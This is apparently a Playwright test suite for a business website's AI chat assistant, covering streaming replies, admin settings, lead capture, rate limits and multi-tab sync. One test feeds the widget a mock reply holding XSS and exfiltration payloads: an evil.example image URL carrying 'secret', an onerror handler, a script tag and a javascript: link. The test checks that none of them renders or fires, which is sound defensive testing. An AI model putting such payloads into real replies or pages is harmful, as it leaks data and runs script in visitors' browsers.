import type { Page } from '@playwright/test'

import { expect, testOnFreshServer } from './fixtures.ts'
import { holdScripts, laterScripts } from './hold-scripts.ts'
import { storeKey } from './store-key.ts'

const test = testOnFreshServer()

const welcome = "Hello! I'm your AI assistant. How can I help you learn about our services today?"

async function openChat(page: Page) {
  await page.getByRole('button', { name: 'Open chat' }).click()
  const panel = page.getByRole('dialog')
  await expect(panel.getByText(welcome)).toBeVisible()
  return panel
}

async function ask(page: Page, text: string) {
  await page.getByRole('textbox', { name: 'Message', exact: true }).fill(text)
  await page.getByRole('button', { name: 'Send message', exact: true }).click()
}

test.describe.configure({ mode: 'serial' })

test(
  'without a key it answers in demo mode, with links to pages that fit',
  { tag: '@main' },
  async ({ page }) => {
    const requests: string[] = []
    page.on('request', (request) => requests.push(new URL(request.url()).pathname))
    await page.goto('/services')
    expect(await page.evaluate(() => localStorage.length)).toBe(0)
    expect(requests.filter((path) => path.startsWith('/api/chat'))).toEqual([])
    const panel = await openChat(page)
    await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toBeFocused()
    await expect(page.getByRole('button', { name: 'Send message', exact: true })).toBeDisabled()
    await ask(page, 'What does a voice agent cost?')
    await expect(page.getByRole('status', { name: 'Assistant is typing' })).toBeVisible()
    await expect(
      panel.getByText("I'm currently running in demo mode because no API key is configured."),
    ).toBeVisible()
    await expect(panel.getByRole('link', { name: 'AI Voice Agents' })).toHaveAttribute(
      'href',
      '/services/ai-voice-agents',
    )
    await page.keyboard.press('Escape')
    await expect(panel).toBeHidden()
    await expect(page.getByRole('button', { name: 'Open chat' })).toBeFocused()
  },
)

test(
  'the owner stores a key, and replies arrive as they are written',
  { tag: ['@main', '@needed'] },
  async ({ page, ownerPage, ai }) => {
    ai.behave({ kind: 'reply', text: 'Hello.' })
    await storeKey(ownerPage)
    await expect(ownerPage.getByRole('list', { name: 'Status' })).toContainText('OpenAI APIActive')
    expect(await ownerPage.content()).not.toContain('sk-test-key-12345678')
    await ownerPage.reload()
    await expect(ownerPage.getByRole('textbox', { name: 'API key' })).toHaveAttribute('placeholder', /5678$/)

    ai.behave({
      kind: 'reply',
      text: 'A voice agent costs **$299-$999** per month.\n\n- 24/7\n- 140+ languages',
    })
    await page.goto('/')
    const panel = await openChat(page)
    await ask(page, 'Price?')
    await expect(panel.getByRole('listitem').filter({ hasText: '140+ languages' })).toBeVisible()
    await expect(panel.locator('strong')).toHaveText('$299-$999')

    await page.goto('/about')
    await expect(page.getByRole('dialog').getByText('Price?')).toBeVisible()
    await page.reload()
    await expect(page.getByRole('log', { name: 'Conversation' }).getByText('140+ languages')).toBeVisible()
    await page.getByRole('button', { name: 'New conversation' }).click()
    await expect(page.getByText('Price?')).toBeHidden()
  },
)

test('a hostile reply shows no image, runs nothing and leads nowhere else', async ({ page, ai, app }) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(app.url)) elsewhere.push(request.url())
  })
  ai.behave({
    kind: 'reply',
    text: [
      '![x](https://evil.example/?d=secret) <img src=x onerror="document.title=1"> <script>document.title=2</script>',
      '[here](https://evil.example/) [js](javascript:document.title=3) [own](/contact) https://evil.example/auto',
      '<a href="https://evil.example">raw</a>',
    ].join('\n\n'),
  })
  await page.goto('/')
  const panel = await openChat(page)
  const title = await page.title()
  await ask(page, 'Show me')
  await expect(panel.getByRole('link', { name: 'own' })).toBeVisible()
  await expect(panel.getByRole('log').getByRole('link')).toHaveCount(1)
  await expect(panel.getByRole('log').locator('img, script, iframe')).toHaveCount(0)
  expect(await page.title()).toBe(title)
  expect(elsewhere).toEqual([])
})

test('a failure is shown with its message, and can be retried', { tag: '@main' }, async ({ page, ai }) => {
  ai.behave({ kind: 'error', status: 500 })
  await page.goto('/')
  const panel = await openChat(page)
  await ask(page, 'Are you there?')
  await expect(
    panel.getByText(
      "I'm sorry, I couldn't connect to the AI service. Please check your API configuration or try again later.",
    ),
  ).toBeVisible()
  await expect(page.getByRole('alert')).toContainText(
    'Failed to get response from AI service. Please check your API configuration.',
  )
  const [toast, shown] = await Promise.all([page.getByRole('alert').boundingBox(), panel.boundingBox()])
  const isBeside = toast && shown && (toast.x + toast.width <= shown.x || toast.y + toast.height <= shown.y)
  expect(isBeside).toBe(true)
  ai.behave({ kind: 'reply', text: 'Now I am.' })
  await panel.getByRole('button', { name: 'Retry' }).click()
  await expect(panel.getByText('Now I am.')).toBeVisible()
  await expect(panel.getByText('couldn’t connect')).toBeHidden()
})

test('Enter sends, Shift+Enter begins a line, Stop ends a reply', async ({ page, ai }) => {
  ai.behave({ kind: 'hang', text: 'It goes on and on' })
  await page.goto('/')
  const panel = await openChat(page)
  const box = page.getByRole('textbox', { name: 'Message', exact: true })
  await box.pressSequentially('one')
  await box.press('Shift+Enter')
  await box.pressSequentially('two')
  await expect(box).toHaveValue('one\ntwo')
  await box.press('Enter')
  await expect(box).toHaveValue('')
  await expect(panel.getByText('It goes on and on')).toBeVisible()
  await panel.getByRole('button', { name: 'Stop' }).click()
  await expect(panel.getByText('You stopped this reply.')).toBeVisible()
  await expect(panel.getByRole('button', { name: 'Send message', exact: true })).toBeVisible()
})

test('changed settings of the assistant apply when it is next opened', async ({ page, ownerPage, ai }) => {
  await ownerPage.goto('/admin/chatbot')
  await ownerPage.getByRole('textbox', { name: 'Bot name' }).fill('Vox')
  await ownerPage.getByRole('combobox', { name: 'Personality' }).selectOption('Friendly')
  await ownerPage.getByRole('combobox', { name: 'Response style' }).selectOption('Concise')
  await ownerPage.getByRole('button', { name: /^Customer support/ }).click()
  await ownerPage.getByRole('button', { name: 'Save' }).click()
  await expect(ownerPage.getByRole('status')).toContainText('Chatbot configuration saved successfully')

  ai.behave({ kind: 'reply', text: 'Sure.' })
  await page.goto('/')
  await openChat(page)
  await expect(page.getByRole('dialog', { name: 'Vox' })).toBeVisible()
  await ask(page, 'Can you help?')
  await expect(page.getByText('Sure.')).toBeVisible()
  const sent = JSON.stringify(ai.requests.at(-1)?.body)
  expect(sent).toContain('You are the support assistant of')
  expect(sent).toContain('Can you help?')
})

test(
  'the assistant offers the form by a tool call, and what is sent becomes a lead with its transcript',
  { tag: '@main' },
  async ({ page, ownerPage, ai }) => {
    ai.behave({
      kind: 'tool-call',
      name: 'offer_contact_form',
      input: { reason: 'wants_quote' },
      text: 'Gladly.',
    })
    await page.goto('/')
    const panel = await openChat(page)
    await ask(page, 'I want a quote for 20 pages')
    const form = panel.getByRole('form', { name: 'Leave us a message' })
    const name = `Chatty ${Date.now()}`
    await form.getByRole('textbox', { name: 'Name *' }).fill(name)
    await form.getByRole('textbox', { name: 'Email *' }).fill('chatty@example.com')
    await expect(form.getByRole('textbox', { name: 'Message *' })).toHaveValue('I want a quote for 20 pages')
    await form.getByRole('button', { name: 'Send Message' }).click()
    await expect(page.getByRole('alert')).toContainText('Consent Required')
    await form.getByRole('checkbox').check()
    await form.getByRole('button', { name: 'Send Message' }).click()
    await expect(page.getByRole('status').filter({ hasText: 'Message Sent!' })).toBeVisible()

    await ownerPage.goto('/admin/leads')
    await ownerPage.getByRole('link', { name }).click()
    await ownerPage.getByText('Read the conversation').click()
    await expect(ownerPage.getByText('Visitor: I want a quote for 20 pages')).toBeVisible()
  },
)

test('the test box answers with settings that are not saved', async ({ ownerPage, ai }) => {
  ai.behave({ kind: 'reply', text: 'As you wish.' })
  await ownerPage.goto('/admin/chatbot')
  await ownerPage.getByRole('textbox', { name: 'System prompt' }).fill('Speak like a ship’s captain.')
  await ownerPage.getByRole('textbox', { name: 'Test message' }).fill('Who are you?')
  await ownerPage.keyboard.press('Enter')
  await expect(ownerPage.getByRole('log').getByText('As you wish.')).toBeVisible()
  expect(JSON.stringify(ai.requests.at(-1)?.body)).toContain('Speak like a ship’s captain.')
  await ownerPage.reload()
  await expect(ownerPage.getByRole('textbox', { name: 'System prompt' })).not.toHaveValue(/captain/)
})

for (const [path, name] of [
  ['/services/ai-chatbots', 'Ask our own assistant'],
  ['/contact', 'AI chatbot'],
] as const)
  test(`the link on ${path} opens the assistant`, async ({ page }) => {
    await page.goto(path)
    await page.getByRole('link', { name, exact: true }).click()
    await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toBeFocused()
    await expect(page).toHaveURL(path)
  })

test('a refusal is shown with the contact form, and the visitor’s text is kept', async ({
  page,
  expectedConsole,
}) => {
  expectedConsole.push('429')
  // The limits are off in these tests, so the refusal is simulated.
  await page.route('**/api/chat', (route) =>
    route.request().method() === 'POST'
      ? route.fulfill({ status: 429, json: { error: 'Please wait a moment.', code: 'too-many' } })
      : route.fallback(),
  )
  await page.goto('/services')
  const panel = await openChat(page)
  await ask(page, 'One too many')
  await expect(panel.getByRole('alert')).toContainText('Please wait a moment.')
  await expect(panel.getByRole('link', { name: 'Open the contact form' })).toBeVisible()
  await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toHaveValue('One too many')
})

test('the owner sets limits and prices', async ({ ownerPage, expectedConsole }) => {
  expectedConsole.push('400')
  await ownerPage.goto('/admin/api/limits')
  await ownerPage.getByRole('textbox', { name: 'Messages per conversation' }).fill('none')
  await ownerPage.getByRole('button', { name: 'Save' }).click()
  await expect(
    ownerPage.getByRole('textbox', { name: 'Messages per conversation' }),
  ).toHaveAccessibleDescription('Please enter a number.')
  await ownerPage.getByRole('textbox', { name: 'Messages per conversation' }).fill('25')
  await ownerPage.getByRole('textbox', { name: 'Your own prices' }).fill('gpt-4o 2.5 10')
  await ownerPage.getByRole('button', { name: 'Save' }).click()
  await expect(ownerPage.getByRole('status')).toContainText('The limits apply from the next message.')
  await ownerPage.reload()
  await expect(ownerPage.getByRole('textbox', { name: 'Messages per conversation' })).toHaveValue('25')
})

test('two tabs show the same conversation', async ({ page, ai }) => {
  ai.behave({ kind: 'reply', text: 'In the first tab.' })
  await page.goto('/about')
  const panel = await openChat(page)
  await ask(page, 'Who are you?')
  await expect(panel.getByText('In the first tab.')).toBeVisible()
  const other = await page.context().newPage()
  await other.goto('/contact')
  const log = other.getByRole('log')
  await expect(log).toContainText('In the first tab.')
  ai.behave({ kind: 'reply', text: 'In both of them.' })
  await ask(page, 'And now?')
  await expect(log).toContainText('And now?')
  await expect(log).toContainText('In both of them.')
  await other.getByRole('button', { name: 'New conversation' }).click()
  await expect(page.getByRole('log')).not.toContainText('In both of them.')
})

test('a reply that ends before a tab can join it is shown there too', async ({
  page,
  ai,
  expectedConsole,
}) => {
  expectedConsole.push('404')
  ai.behave({ kind: 'slow', text: ['Over before', ' it was joined.'], pause: 300 })
  await page.goto('/about')
  await openChat(page)
  const other = await page.context().newPage()
  await other.route('**/api/chat/*/reply', async (route) => {
    await expect(page.getByRole('log')).toContainText('Over before it was joined.')
    await expect(page.getByRole('button', { name: 'Stop' })).toBeHidden()
    await route.continue()
  })
  await other.goto('/contact')
  await ask(page, 'Who are you?')
  await expect(other.getByRole('log')).toContainText('Over before it was joined.')
})

test('an early click on the button leaves a panel open that was open before', async ({ page }) => {
  await page.goto('/about')
  await openChat(page)
  const { release } = await holdScripts(page, laterScripts)
  await page.goto('/contact')
  await page.getByRole('button', { name: 'Open chat' }).click()
  release()
  await expect(page.getByRole('dialog')).toBeVisible()
  await expect(page.locator('[data-island=chat]')).toHaveAttribute('data-state', 'awake')
  await expect(page.getByRole('dialog')).toBeVisible()
})

test('a browser without a connection says so', async ({ page, context, expectedConsole }) => {
  expectedConsole.push('ERR_INTERNET_DISCONNECTED', 'Failed to load resource')
  await page.goto('/about')
  const panel = await openChat(page)
  await context.setOffline(true)
  await ask(page, 'Are you there?')
  await expect(page.getByRole('alert').filter({ hasText: 'You are offline' })).toBeVisible()
  await expect(panel).toContainText('Please check your connection')
  await context.setOffline(false)
})
